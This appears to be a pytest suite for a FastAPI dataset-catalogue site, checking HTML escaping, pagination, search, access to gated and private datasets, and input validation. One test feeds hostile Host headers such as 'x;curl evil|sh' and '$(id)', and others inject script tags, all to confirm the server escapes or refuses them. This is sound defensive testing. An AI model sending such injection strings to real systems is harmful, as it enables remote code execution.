"""The catalogue as HTML, read as a parser reads it."""

import shlex
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from aggregator.api import create_app
from aggregator.catalog import Catalog
from aggregator.pages import catalogue, site


class Document(HTMLParser):
    """The elements of a page and its words."""

    VOID = frozenset({"meta", "link", "img", "input", "wbr", "br"})

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert not self._open, f"left open: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in self.VOID:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.VOID:
            assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, tag: str, attribute: str) -> list[str]:
        return [
            found[attribute] for name, found in self.elements if name == tag and attribute in found
        ]


def read(client: TestClient, path: str, **asked: Any) -> Document:
    answer = client.get(path, **asked)
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    return Document(answer.text)


def planted(document: Document) -> bool:
    """Whether anything of an enemy's words became markup."""
    scripts = [found for tag, found in document.elements if tag == "script"]
    return (
        any(not found.get("src", "").startswith("/static/") for found in scripts)
        or any(name.startswith("on") for _, found in document.elements for name in found)
        or any(value == "x" for value in document.values("img", "src"))
        or any("style" in found for _, found in document.elements)
    )


PAGES = ["/", "/?q=many-07", "/datasets/fedstill/public", "/datasets/fedstill/gated"]


@pytest.mark.parametrize("path", PAGES)
def test_what_others_wrote_is_text(client: TestClient, path: str) -> None:
    document = read(client, path)
    assert not planted(document)
    if path != "/":
        assert "<script>planted()</script>" in document.text


def test_what_is_not_escaped_is_found(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control: with escaping off, the test above would see it."""
    monkeypatch.setattr(site._templates(), "autoescape", False)
    site._templates().cache.clear()  # type: ignore[union-attr]  # compiled with it on
    try:
        found = [planted(Document(client.get(path).text)) for path in PAGES[1:]]
    finally:
        site._templates().cache.clear()  # type: ignore[union-attr]
    assert all(found)


PUBLIC, GATED, PRIVATE = (f"/datasets/fedstill/{name}" for name in ("public", "gated", "private"))


def listed(document: Document) -> list[str]:
    """The datasets that a list links to, in its order."""
    found = [href for href in document.values("a", "href") if href.startswith("/datasets/")]
    return [href.rpartition("/")[2] for href in found]


def test_pages_hold_every_dataset_once_in_order(client: TestClient) -> None:
    pages = [listed(read(client, path)) for path in ("/", "/?page=2", "/?page=3", "/?page=4")]
    many = [f"many-{number:02d}" for number in range(45)]
    assert [len(found) for found in pages] == [20, 20, 7, 0]
    assert [name for page in pages for name in page] == ["gated", *many, "public"]
    first, last = read(client, "/"), read(client, "/?page=3")
    assert "47 datasets" in first.text
    assert [href for href in first.values("a", "href") if "page=" in href] == ["/?q=&page=2"]
    assert [href for href in last.values("a", "href") if "page=" in href] == ["/?q=&page=2"]


@pytest.mark.parametrize("query", ["page=0", "page=x", "page=50001", f"q={'x' * 65}"])
def test_a_page_that_cannot_be_is_a_page_of_its_own(client: TestClient, query: str) -> None:
    answer = client.get(f"/?{query}")
    assert answer.status_code == 422
    assert "The address is not right" in Document(answer.text).text


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("many-4", [f"many-{number}" for number in range(40, 45)]),
        ("MANY-44", ["many-44"]),
        ("%20%20many-44%20%20", ["many-44"]),
        ("<script>", ["many-07"]),  # in its task
        ("fedstill/pub", ["public"]),
        ("%25", []),  # a wildcard of SQL is a letter here
        ("_____", []),
        ("private", []),
        ("%00", []),
    ],
)
def test_a_search_is_of_name_and_task(client: TestClient, query: str, found: list[str]) -> None:
    document = read(client, f"/?q={query}")
    assert listed(document) == found
    if not found:
        assert "Nothing here has that" in document.text


def test_a_search_keeps_its_words_from_page_to_page(client: TestClient) -> None:
    document = read(client, "/?q=mr-sr")
    assert "/?q=mr-sr&page=2" in document.values("a", "href")
    assert "mr-sr" in document.values("input", "value")
    hostile = read(client, "/?q=%22%3E%3Cscript%3Eplanted()%3C/script%3E")
    assert not planted(hostile)
    assert '"><script>planted()</script>' in hostile.values("input", "value")


def test_a_version_has_its_card_worth_files_and_versions(client: TestClient) -> None:
    document = read(client, f"{PUBLIC}/v2")
    assert "fedstill/public" in " ".join(document.text.split())
    for words in ("31.70 ± 0.10", "The file on privacy", "Withdrawn on", "A first paragraph"):
        assert words in document.text
    # The page's own sections are in the place of the card's.
    assert "In the card alone" not in document.text
    assert "The card on privacy" not in document.text
    links = document.values("a", "href")
    assert f"{PUBLIC}/resolve/v2/pairs.safetensors" in links
    assert f"{PUBLIC}/v1" not in links
    assert [found["data-file"] for _, found in document.elements if "data-file" in found] == [
        f"{PUBLIC}/resolve/v2/pairs.safetensors"
    ]
    for link in (link for link in links if link.startswith("/")):
        assert client.get(link).status_code == 200, link
    for tag, attribute in (("img", "src"), ("script", "src"), ("link", "href")):
        for address in document.values(tag, attribute):
            assert address.startswith("/"), address
            assert client.get(address).status_code == 200, address


def test_a_dataset_is_its_newest_version(client: TestClient) -> None:
    assert client.get(PUBLIC).text == client.get(f"{PUBLIC}/v2").text


def test_versions_come_in_pages(tmp_path: Path) -> None:
    """Only what one page shows is asked of the catalog."""
    catalog = Catalog(tmp_path / "catalog.sqlite")
    for number in range(45):
        catalog.publish(
            namespace="a", name="b", digest=f"{number:064x}", summary={}, files=lambda _: []
        )
    catalog.close()
    with TestClient(create_app(tmp_path)) as client:
        found = [read(client, f"/datasets/a/b/v30?versions={page}") for page in (1, 2, 3)]
    links = [
        [href.rpartition("/")[2] for href in page.values("a", "href") if "/b/v" in href]
        for page in found
    ]
    assert links[0] == [f"v{number}" for number in range(45, 25, -1) if number != 30]
    assert links[1] == [f"v{number}" for number in range(25, 5, -1)]
    assert links[2] == [f"v{number}" for number in range(5, 0, -1)]
    pagers = [
        [href for href in page.values("a", "href") if href.startswith("?versions=")]
        for page in found
    ]
    assert pagers == [
        ["?versions=2#versions"],
        ["?versions=1#versions", "?versions=3#versions"],
        ["?versions=2#versions"],
    ]


def test_a_gated_dataset_shows_its_card_and_nothing_of_its_files(
    client: TestClient, admin: dict[str, str]
) -> None:
    answer = client.get(GATED)
    document = Document(answer.text)
    assert "2. Identify nobody." in document.text
    assert "A first paragraph" in document.text
    assert "In the card alone" in document.text
    assert "pairs.safetensors" in document.text
    for content in (
        "31.70",
        "The file on privacy",
        "data-file",
        'contact-sheet.png"',
        "/other.png",
    ):
        assert content not in answer.text, content
    assert not [href for href in document.values("a", "href") if "/resolve/" in href]
    # The control: who may read them gets them, and no cache may give that to others.
    full = client.get(GATED, headers=admin)
    for content in (
        "31.70",
        "The file on privacy",
        "data-file",
        'contact-sheet.png"',
        "/other.png",
    ):
        assert content in full.text, content
    assert full.headers["Cache-Control"] == "private, no-cache"
    assert "Authorization" in full.headers["Vary"]


def test_a_private_dataset_is_not_there(client: TestClient, admin: dict[str, str]) -> None:
    for path in (PRIVATE, f"{PRIVATE}/v1", f"{PRIVATE}/v9"):
        hidden = client.get(path)
        absent = client.get(path.replace("private", "absence"))
        assert hidden.status_code == absent.status_code == 404
        assert hidden.text.replace("private", "absence") == absent.text
    assert "private" not in listed(read(client, "/?page=3"))
    assert "private" in listed(read(client, "/?page=3", headers=admin))
    assert "31.70" in read(client, PRIVATE, headers=admin).text


@pytest.mark.parametrize("number", ["0", "9", "01", "x", "1/../2", "1" * 17, "%00"])
def test_a_version_that_is_not_there(client: TestClient, number: str) -> None:
    assert client.get(f"{PUBLIC}/v{number}").status_code in (404, 422)


@pytest.mark.parametrize(
    "host", ["a b", "x;curl evil|sh", "$(id)", "`id`", "x'y", "x/y", "x@y", "", "h" * 300]
)
def test_a_host_that_a_shell_would_obey_is_refused(client: TestClient, host: str) -> None:
    answer = client.get(PUBLIC, headers={"Host": host})
    assert answer.status_code == 400
    assert "distilled get" not in answer.text


@pytest.mark.parametrize("host", ["example.org", "127.0.0.1:8123", "[::1]:8123"])
def test_lines_to_copy_lead_to_where_the_reader_is(client: TestClient, host: str) -> None:
    document = read(client, PUBLIC, headers={"Host": host})
    server = shlex.quote(f"http://{host}")  # a shell may take [ for a pattern
    assert f"distilled get fedstill/public@v2 --from {server}Copy" in document.text
    assert f"export HF_ENDPOINT={server}\n" in document.text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "null",
        "{",
        '{"predicate": []}',
        '{"predicate": {"utility": 3}}',
        "[" * 100_000,
        '{"predicate": {"utility": {"rows": {"input": {"psnr": "NaN"}}}}}',
    ],
)
def test_a_provenance_that_says_nothing_of_worth_is_no_error(text: str) -> None:
    assert catalogue._utility(text) is None
